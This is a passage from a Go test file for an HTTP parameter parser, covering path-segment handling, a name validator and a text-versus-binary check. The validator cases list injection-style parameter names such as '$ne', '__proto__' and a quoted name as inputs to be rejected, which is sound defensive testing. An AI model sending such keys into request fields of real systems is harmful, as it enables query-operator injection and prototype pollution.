			if got := show(tt.req.Params); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("params after the buffer changed\n got  %q\n want %q", got, tt.want)
			}
		})
	}
}

func TestManyPathSegments(t *testing.T) {
	r := httpReq("GET", strings.Repeat("/s", 40), nil, "")
	Fill(r, testLimits)
	if len(r.Params) != 40 || r.Params[39].Name != "path[39]" || r.Params[31].Name != "path[31]" {
		t.Errorf("got %d params, last %q", len(r.Params), r.Params[len(r.Params)-1].Name)
	}
}

func TestPlainName(t *testing.T) {
	tests := []struct {
		name  string
		plain bool
	}{
		{"", true}, {"q", true}, {"user[emails][0]", true}, {"a.b-c_d", true},
		{"a b", false}, {"$ne", false}, {"__proto__", false}, {"Constructor", false},
		{"x'", false}, {strings.Repeat("a", 65), false}, {"é", false},
	}
	for _, tt := range tests {
		if got := plainName(tt.name); got != tt.plain {
			t.Errorf("plainName(%q) = %v, want %v", tt.name, got, tt.plain)
		}
	}
}

func TestTextual(t *testing.T) {
	tests := []struct {
		in   string
		want bool
	}{
		{"", true}, {"hello\r\n\tworld", true}, {"héllo", true},
		{"\x00\x01\x02\x03", false}, {"\xff\xfe\xfd", false},
		{strings.Repeat("a", 1023) + "é", true},
		{"abcdefghi\x00", true},
	}
	for _, tt := range tests {
		if got := textual(tt.in); got != tt.want {
			t.Errorf("textual(%q) = %v, want %v", tt.in, got, tt.want)
		}
	}
}
